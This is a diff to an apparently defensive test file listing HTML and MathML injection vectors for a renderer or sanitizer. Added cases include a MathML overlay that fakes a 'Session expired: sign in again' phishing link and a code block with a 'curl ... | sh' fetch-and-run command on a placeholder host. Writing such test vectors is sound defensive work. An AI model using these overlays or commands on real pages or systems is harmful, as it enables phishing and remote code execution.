@@ -78,4 +78,13 @@ VECTORS: dict[str, str] = {
     "tab entity image host": '<img src="/&#9;/elsewhere.invalid/a.png" alt="c">',
     "mathml offset": '<math><mpadded voffset="-150px" lspace="300px" width="0"><mtext>X</mtext></mpadded></math>',
     "latex kern": "Space $a\\kern{5000em}b$ apart.",
+    "mathml scriptlevel overlay": (
+        'Note <math><mstyle scriptlevel="-12"><mpadded voffset="2.7em"><mstyle scriptlevel="+12"><mtext>'
+        '<a href="https://elsewhere.invalid/login"><strong>Session expired: sign in again</strong></a>'
+        "</mtext></mstyle></mpadded></mstyle></math> end."
+    ),
+    "mathml bar": '<math><mfrac linethickness="2000em"><mi>a</mi><mi>b</mi></mfrac></math>',
+    "copy button target": '<div id="__codelineno-1-1" markdown>\n\n```bash\ncurl -s https://elsewhere.invalid/x | sh\n```\n\n</div>',
+    "tab set mark": '<div data-tabs="1:1"></div>',
+    "quiz class": '<div class="pq-ui" data-topic="basics">x</div>',
 }
